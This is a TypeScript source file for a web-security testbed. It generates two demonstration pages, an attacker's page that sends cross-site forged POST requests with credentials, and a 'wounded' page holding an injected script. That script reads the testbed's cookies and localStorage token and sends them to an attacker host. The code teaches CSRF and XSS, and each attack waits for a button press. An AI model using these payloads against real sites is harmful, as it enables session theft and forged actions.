import { randomBytes } from 'node:crypto'
import type { Html, Scene } from '../scene'

/** WEAK. A page of the attacker's site. Nothing happens before a button is pressed. */
export function attackerPage({ site, path }: Scene): Html {
  const target = (how: string) => `${site}${path}/name/Changed%20by%20a%20${how}`
  // Neither way needs the target's consent (CORS).
  const script = `await fetch('${target('script')}', {
  method: 'POST',
  mode: 'no-cors',
  credentials: 'include',
})`
  return page(
    {
      title: "The attacker's page",
      says: `This page belongs to the attacker. To your browser it is a different site from ${site}, where you are signed in to the testbed. It asks your browser to send a request there.`,
      policy: `connect-src ${site}; form-action ${site}`,
    },
    (nonce) => `
<h2>With a form</h2>
<pre>POST ${target('form')}</pre>
<form method="post" action="${target('form')}">
<button>Attack with the form</button>
</form>
<p>The browser goes there and shows what the server answers.</p>
<h2>With a script</h2>
<pre>${escape(script)}</pre>
<button id="fetch">Attack with the script</button>
<p>A browser that blocks third-party cookies sends none along with it.</p>
<p role="status" id="said"></p>
<script type="module" nonce="${nonce}">
document.getElementById('fetch').addEventListener('click', async () => {
const said = document.getElementById('said')
try {
${script}
said.textContent = 'Sent. This page may not read the answer; the first tab shows what the server saw.'
} catch {
said.textContent = 'The browser did not send it.'
}
})
</script>`,
  )
}

/** WEAK. A page of the testbed's own site that shows what somebody else wrote, without escaping it. */
export function woundedPage({ path, prefix, attacker }: Scene): Html {
  // Only this testbed's: a real script would take everything.
  const script = `const cookies = document.cookie.split('; ')
  .filter((pair) => pair.startsWith('${prefix}')).join('; ')
const token = localStorage.getItem('${prefix}token')
await fetch('${attacker}${path}/collect', {
  method: 'POST',
  mode: 'no-cors',
  body: JSON.stringify({ cookies, token }),
})`
  return page(
    {
      title: "A page of the testbed, with an attacker's script",
      says: 'This page belongs to the site where you are signed in to the testbed. It shows a comment that somebody left, and the comment is a script. It waits for you to press the button; a real one would not.',
      policy: `connect-src ${attacker}`,
    },
    (nonce) => `
<h2>The comment</h2>
<pre>${escape(script)}</pre>
<button id="run">Attack: run the script</button>
<p role="status" id="said"></p>
<script type="module" nonce="${nonce}">
document.getElementById('run').addEventListener('click', async () => {
const said = document.getElementById('said')
try {
${script}
said.textContent = 'Read ' + (cookies === '' ? 'no cookie' : 'the cookie') + ' and ' + (token === null ? 'no token' : 'the token') + '. Sent. The first tab shows what happened.'
} catch {
said.textContent = 'The browser did not send it.'
}
})
</script>`,
  )
}

function page(
  { title, says, policy }: { readonly title: string; readonly says: string; readonly policy: string },
  content: (nonce: string) => string,
): Html {
  const nonce = randomBytes(16).toString('base64')
  const text = `<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<meta name="robots" content="noindex">
<title>${title}</title>
<style nonce="${nonce}">
:root { color-scheme: light dark; --ink: light-dark(#1b1a17, #f1eee8); --bad: light-dark(#a8321c, #ff9d85); --soft: light-dark(#fbe9e4, #3d1d15) }
body { margin: 0; border-top: 0.5rem solid var(--bad); background: light-dark(#fbfaf8, #131211); color: var(--ink); font: 1rem/1.6 system-ui, sans-serif }
main { max-width: 44rem; margin: 0 auto; padding: 2rem 1.25rem }
h1 { font-size: 1.75rem; line-height: 1.2 }
h2 { margin-top: 2rem; font-size: 1.125rem }
strong { padding: 0.125rem 0.5rem; border-radius: 0.25rem; background: var(--soft); color: var(--bad) }
pre { padding: 0.75rem; border: 1px solid light-dark(#8d877a, #827c70); border-radius: 0.375rem; font-size: 0.8125rem; white-space: pre-wrap; overflow-wrap: anywhere }
button { min-height: 2.5rem; padding: 0.25rem 1rem; border: 1px solid var(--bad); border-radius: 0.375rem; background: transparent; color: var(--bad); font: inherit; cursor: pointer }
button:hover { background: var(--soft) }
button:focus-visible { outline: 2px solid var(--ink); outline-offset: 2px }
</style>
</head>
<body>
<main>
<p><strong>WEAK: a page for experiments</strong></p>
<h1>${title}</h1>
<p>${says}</p>${content(nonce)}
</main>
</body>
</html>`
  return {
    text,
    policy: `default-src 'none'; script-src 'nonce-${nonce}'; style-src 'nonce-${nonce}'; ${policy}${policy.includes('form-action') ? '' : "; form-action 'none'"}; frame-ancestors 'none'; base-uri 'none'`,
  }
}

function escape(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')
}
